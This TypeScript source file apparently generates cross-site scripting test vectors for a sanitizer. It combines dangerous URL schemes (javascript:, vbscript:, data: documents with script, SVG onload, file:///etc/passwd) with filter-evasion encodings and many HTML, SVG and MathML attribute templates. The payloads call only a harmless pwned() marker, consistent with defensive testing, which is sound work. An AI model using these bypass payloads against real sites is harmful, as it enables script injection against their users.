import { EVIL, joinVector, type Vector } from './vector.ts'

const DOCUMENT = '<script>parent.pwned();pwned()</script>'
const DRAWING = "<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'><script>pwned()</script></svg>"
const base64 = (text: string) => Buffer.from(text).toString('base64')

/** Addresses that are programs or documents. */
const PROGRAMS: Readonly<Record<string, string>> = {
  javascript: 'javascript:pwned()',
  'javascript after a comment': 'javascript://%0apwned()',
  'javascript as a template': `javascript:\`$\{pwned()}\``,
  vbscript: 'vbscript:pwned()',
  livescript: 'livescript:pwned()',
  mocha: 'mocha:pwned()',
  'document of its own': `data:text/html,${DOCUMENT}`,
  'document in base64': `data:text/html;base64,${base64(DOCUMENT)}`,
  'document of XML': `data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'>${DOCUMENT}</html>`,
  'script of its own': 'data:text/javascript,pwned()',
  drawing: `data:image/svg+xml,${DRAWING}`,
  'drawing in base64': `data:image/svg+xml;base64,${base64(DRAWING)}`,
  'sheet of its own': 'data:text/css,body{display:none}',
  blob: `blob:${EVIL}/6b9c2f0e`,
  file: 'file:///etc/passwd',
  'source view': 'view-source:javascript:pwned()',
  'feed that wraps it': 'feed:javascript:pwned()',
  jar: `jar:${EVIL}/x.jar!/x.html`,
  'mail archive': `mhtml:${EVIL}/x.html!x`,
  'file system': `filesystem:${EVIL}/temporary/x.html`,
  'without a scheme': '//evil.localhost/x',
  'with backslashes': '\\\\evil.localhost\\x',
  'with a user': 'http://127.0.0.1@evil.localhost/x',
}

/** Ways to write a scheme that a filter reads and a browser understands. */
const ENCODINGS: Readonly<Record<string, (url: string) => string>> = {
  plain: (url) => url,
  'mixed case': (url) => [...url].map((sign, i) => (i % 2 === 0 ? sign.toUpperCase() : sign)).join(''),
  'spaces before': (url) => ` \n\t ${url}`,
  'control characters before': (url) => `\u0001\u0008\u000e\u001f${url}`,
  'tabs and lines inside': (url) => `${url.slice(0, 2)}\t${url.slice(2, 4)}\n${url.slice(4, 6)}\r${url.slice(6)}`,
  'decimal references': (url) => [...url].map((sign) => `&#${sign.codePointAt(0)};`).join(''),
  'padded references without an end': (url) =>
    [...url].map((sign) => `&#${String(sign.codePointAt(0)).padStart(7, '0')}`).join(''),
  'hexadecimal references': (url) => [...url].map((sign) => `&#X${sign.codePointAt(0)?.toString(16)};`).join(''),
  'named references': (url) =>
    `&Tab;${url.replace(':', '&colon;').slice(0, 3)}&NewLine;${url.replace(':', '&colon;').slice(3)}`,
  'percent signs': (url) => [...url].map((sign) => `%${sign.codePointAt(0)?.toString(16).padStart(2, '0')}`).join(''),
  'full width': (url) =>
    [...url].map((sign) => (/[a-z]/.test(sign) ? String.fromCodePoint(sign.charCodeAt(0) + 0xfee0) : sign)).join(''),
  'soft hyphens and invisible signs': (url) => `\ufeff${url.slice(0, 4)}\u00ad\u200b${url.slice(4)}`,
}

/** Every attribute that holds an address, `%` being the address. */
const TEMPLATES = [
  '<a href="%">x</a>',
  '<a href="%" ping="%" target="_self" rel="opener" download>x</a>',
  '<a xlink:href="%">x</a>',
  '<map name="m"><area href="%" shape="default"></map><img usemap="#m" src="x">',
  '<img src="%" alt="x">',
  '<img srcset="% 1x" src="x" lowsrc="%" dynsrc="%" longdesc="%" alt="x">',
  '<picture><source srcset="%"><img src="x" alt="x"></picture>',
  '<image src="%" href="%">',
  '<input type="image" src="%" formaction="%">',
  '<form action="%"><button>x</button><input type="submit" formaction="%"></form>',
  '<button form="f" formaction="%">x</button><form id="f" action="%"></form>',
  '<isindex action="%" type="image"><keygen src="%">',
  '<iframe src="%"></iframe><iframe srcdoc="<a href=\'%\'>x</a>"></iframe>',
  '<frameset><frame src="%"></frameset>',
  '<portal src="%"></portal><fencedframe src="%"></fencedframe>',
  '<object data="%" codebase="%" classid="%"><param name="src" value="%"></object>',
  '<embed src="%" code="%"><applet code="%" archive="%" codebase="%"></applet>',
  '<video src="%" poster="%"><source src="%"><track src="%" default></video>',
  '<audio src="%" autoplay><source src="%"></audio><bgsound src="%">',
  '<script src="%"></script><script type="module" src="%"></script>',
  '<link rel="stylesheet" href="%"><link rel="import" href="%"><link rel="prefetch" href="%">',
  '<base href="%"><a href="x">x</a><img src="x" alt="x">',
  '<meta http-equiv="refresh" content="0;url=%"><meta http-equiv="link" content="<%>; rel=stylesheet">',
  '<html manifest="%"><body background="%"><table background="%"><tr><td background="%">x</td></tr></table>',
  '<blockquote cite="%">x</blockquote><q cite="%">x</q><del cite="%">x</del><ins cite="%">x</ins>',
  '<menuitem icon="%" label="x"></menuitem><command icon="%"><layer src="%"></layer>',
  '<svg><a xlink:href="%"><text y="9">x</text></a><a href="%"><rect width="9" height="9"/></a></svg>',
  '<svg><use href="%#x"/><image href="%" xlink:href="%"/><feImage href="%"/><script href="%"/></svg>',
  '<svg><a><animate attributeName="href" values="%" from="%" to="%" begin="0s" fill="freeze"/><text y="9">x</text></a></svg>',
  '<svg><a><set attributeName="xlink:href" to="%"/><text y="9">x</text></a><mpath href="%"/><textPath href="%">x</textPath></svg>',
  '<math href="%"><mi href="%" xlink:href="%">x</mi><maction actiontype="statusline#%" xlink:href="%">x</maction></math>',
  '<p style="background:url(%);list-style-image:url(\'%\');cursor:url(%),auto">x</p>',
  '<x src="%" href="%" data="%" action="%" background="%" style="-o-link:\'%\';-o-link-source:current">x</x>',
  '<?xml-stylesheet href="%"?><!DOCTYPE x SYSTEM "%"><xml src="%"></xml>',
]

/** Encodings that stand together in one item: all of one address would make a page of four hundred elements. */
const TOGETHER = 4

export function addressVectors(): readonly Vector[] {
  const encodings = Object.entries(ENCODINGS)
  const groups = Array.from({ length: Math.ceil(encodings.length / TOGETHER) }, (_, i) =>
    encodings.slice(i * TOGETHER, (i + 1) * TOGETHER),
  )
  return Object.entries(PROGRAMS).flatMap(([program, url]) =>
    groups.map((group) =>
      joinVector(
        `${program}: ${group.map(([name]) => name).join(', ')}`,
        group.flatMap(([, encode]) => TEMPLATES.map((template) => template.replaceAll('%', () => quoted(encode(url))))),
      ),
    ),
  )
}

function quoted(url: string): string {
  return url.replaceAll('"', '&quot;')
}
